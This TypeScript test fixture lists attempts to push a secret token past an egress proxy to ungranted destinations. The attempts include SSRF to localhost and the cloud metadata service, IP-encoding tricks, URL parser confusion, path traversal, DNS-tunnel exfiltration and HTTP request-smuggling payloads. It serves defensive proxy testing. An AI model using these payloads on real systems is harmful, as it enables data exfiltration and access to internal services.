/**
 * Requests through the proxy to destinations that were not granted. The bare twin sends them to a
 * proxy without rules. The skill has GET and POST below `http://api.crm.example/v2/`. Host policy
 * also pins `intranet.crm.example`, which is not granted.
 */
import { type Attempt, isReceived } from '../row.ts';

const destination = { wants: 'a destination that was not granted', proof: isReceived } as const;
const ambiguous = {
  wants: 'a request that the proxy and the host read differently',
  proof: isReceived,
} as const;

export const proxyRows: readonly Attempt[] = [
  {
    ...destination,
    name: 'a host that was not granted',
    code: `get('http://elsewhere.example/v2/' + token)`,
  },
  {
    ...destination,
    name: 'a host that is pinned for another skill',
    code: `get('http://intranet.crm.example/v2/' + token)`,
  },
  {
    ...destination,
    name: 'a path that was not granted',
    code: `get('http://api.crm.example/admin/' + token)`,
  },
  {
    ...destination,
    name: 'a method that was not granted',
    code: `get('http://api.crm.example/v2/' + token, method='DELETE')`,
  },
  {
    ...destination,
    name: 'a method that HTTP does not define',
    code: `get('http://api.crm.example/v2/' + token, method='GETX')`,
  },
  {
    ...destination,
    name: 'a port that was not granted',
    code: `get('http://api.crm.example:22/v2/' + token)`,
  },
  {
    ...destination,
    name: 'an IP address instead of a name',
    code: `get('http://127.0.0.1:%d/v2/%s' % (port, token))`,
  },
  {
    ...destination,
    name: 'an IP address as one number',
    code: `get('http://2130706433:%d/v2/%s' % (port, token))`,
  },
  {
    ...destination,
    name: 'an IP address in octal',
    code: `get('http://0177.0.0.1:%d/v2/%s' % (port, token))`,
  },
  {
    ...destination,
    name: 'an IPv6 address',
    code: `get('http://[::1]:%d/v2/%s' % (port, token))`,
  },
  {
    ...destination,
    name: 'an IPv4 address in IPv6 form',
    code: `get('http://[::ffff:127.0.0.1]:%d/v2/%s' % (port, token))`,
  },
  {
    ...destination,
    name: 'the metadata service of a cloud',
    code: `get('http://169.254.169.254/latest/' + token)`,
  },
  { ...destination, name: 'localhost', code: `get('http://localhost:%d/v2/%s' % (port, token))` },
  {
    ...destination,
    name: 'a name that ends with a dot, on another path',
    code: `get('http://api.crm.example./admin/' + token)`,
  },
  {
    ...destination,
    name: 'a name that begins with the granted name',
    code: `get('http://api.crm.example.elsewhere.example/v2/' + token)`,
  },
  {
    ...destination,
    name: 'a subdomain of the granted name',
    code: `get('http://%s.api.crm.example/v2/x' % token)`,
  },
  {
    ...destination,
    name: 'data in a host name (DNS tunnel)',
    code: `get('http://%s.tunnel.example/' % token); send('CONNECT %s.tunnel.example:80 HTTP/1.1\\nHost: %s.tunnel.example\\n\\n' % (token, token))`,
  },
  {
    ...destination,
    name: 'a user name that looks like the granted host',
    code: `get('http://api.crm.example@elsewhere.example/v2/' + token)`,
  },
  {
    ...destination,
    name: 'the granted host after a fragment sign',
    code: `get('http://elsewhere.example#@api.crm.example/v2/' + token)`,
  },
  {
    ...destination,
    name: 'a host with a backslash',
    code: `get('http://elsewhere.example\\\\@api.crm.example/v2/' + token)`,
  },
  {
    ...destination,
    name: 'a path that climbs with dots',
    code: `get('http://api.crm.example/v2/../admin/' + token)`,
  },
  {
    ...destination,
    name: 'a path that climbs with encoded dots',
    code: `get('http://api.crm.example/v2/%2e%2e/admin/' + token)`,
  },
  {
    ...destination,
    name: 'a path that climbs with dots and a blank',
    code: `get('http://api.crm.example/v2/..%20/admin/' + token)`,
  },
  {
    ...destination,
    name: 'a path that climbs with an encoded slash',
    code: `get('http://api.crm.example/v2/..%2fadmin/' + token)`,
  },
  {
    ...destination,
    name: 'a path that climbs with a backslash',
    code: `get('http://api.crm.example/v2/..\\\\admin/' + token)`,
  },
  {
    ...destination,
    name: 'a path that begins with two slashes',
    code: `get('http://api.crm.example//elsewhere.example/v2/' + token)`,
  },
  {
    ...destination,
    name: 'the target of a redirect',
    code: `answer = get('http://api.crm.example/v2/redirect?to=' + token[::-1])
to = re.search('Location: (\\\\S+)', answer).group(1); get(to.replace(token[::-1], token))`,
  },
  {
    ...ambiguous,
    name: 'a request target without a host',
    code: `send('GET /v2/%s HTTP/1.1\\nHost: api.crm.example\\nConnection: close\\n\\n' % token)`,
  },
  {
    ...ambiguous,
    name: 'another host in the Host header',
    code: `get('http://api.crm.example/v2/' + token, host='elsewhere.example')`,
  },
  {
    ...ambiguous,
    name: 'two Host headers',
    code: `get('http://api.crm.example/v2/' + token, headers='Host: elsewhere.example\\n')`,
  },
  {
    ...ambiguous,
    name: 'a second request hidden by both a length and chunks',
    code: `hidden = 'GET /admin/%s HTTP/1.1\\r\\nHost: api.crm.example\\r\\n\\r\\n' % token
send('POST http://api.crm.example/v2/x HTTP/1.1\\nHost: api.crm.example\\nContent-Length: %d\\nTransfer-Encoding: chunked\\n\\n0\\n\\n' % (len(hidden) + 5) + hidden)`,
  },
  {
    ...ambiguous,
    name: 'a second request hidden by a repeated length',
    code: `send('POST http://api.crm.example/v2/x HTTP/1.1\\nHost: api.crm.example\\nContent-Length: 0\\nContent-Length: 90\\n\\nGET /admin/%s HTTP/1.1\\nHost: api.crm.example\\n\\n' % token)`,
  },
  {
    ...ambiguous,
    name: 'a second request hidden by a misspelt transfer coding',
    code: `send('POST http://api.crm.example/v2/x HTTP/1.1\\nHost: api.crm.example\\nTransfer-Encoding: xchunked\\n\\n0\\n\\nGET /admin/%s HTTP/1.1\\nHost: api.crm.example\\n\\n' % token)`,
  },
  {
    ...ambiguous,
    name: 'a second request hidden in a chunk extension',
    code: `send('POST http://api.crm.example/v2/x HTTP/1.1\\nHost: api.crm.example\\nTransfer-Encoding: chunked\\n\\n0;\\n%s\\n\\nGET /admin/%s HTTP/1.1\\nHost: api.crm.example\\n\\n' % (token, token))`,
  },
  {
    ...ambiguous,
    name: 'a header that continues on the next line',
    code: `get('http://api.crm.example/v2/' + token, headers='X-A: b\\n Host: elsewhere.example\\n')`,
  },
  {
    ...ambiguous,
    name: 'a header with a space before the colon',
    code: `get('http://api.crm.example/v2/' + token, headers='Content-Length : 0\\n')`,
  },
  {
    ...ambiguous,
    name: 'lines that end with a bare line feed',
    code: `send(('GET http://api.crm.example/v2/%s HTTP/1.1\\nHost: api.crm.example\\n\\n' % token).encode())`,
  },
  {
    ...ambiguous,
    name: 'a header with a bare carriage return',
    code: `get('http://api.crm.example/v2/' + token, headers='X-A: b\\rHost: elsewhere.example\\n')`,
  },
  {
    ...ambiguous,
    name: 'a header with a NUL',
    code: `get('http://api.crm.example/v2/' + token, headers='X-A: b\\0c\\n')`,
  },
  {
    ...ambiguous,
    name: 'a second request before the first answer',
    code: `one = 'GET http://api.crm.example/v2/%s HTTP/1.1\\nHost: api.crm.example\\n\\n'; send(one % 'x' + (one % token).replace('/v2/', '/admin/'))`,
  },
  {
    ...ambiguous,
    name: 'a request in HTTP/0.9',
    code: `send('GET http://api.crm.example/v2/%s\\n\\n' % token)`,
  },
  {
    ...ambiguous,
    name: 'the preface of HTTP/2',
    code: `send('PRI * HTTP/2.0\\n\\nSM\\n\\n' + token)`,
  },
  {
    ...ambiguous,
    name: 'an upgrade to HTTP/2',
    code: `get('http://api.crm.example/v2/' + token, headers='Upgrade: h2c\\nHTTP2-Settings: AAMAAABkAAQAAP__\\n').index('200')`,
  },
];
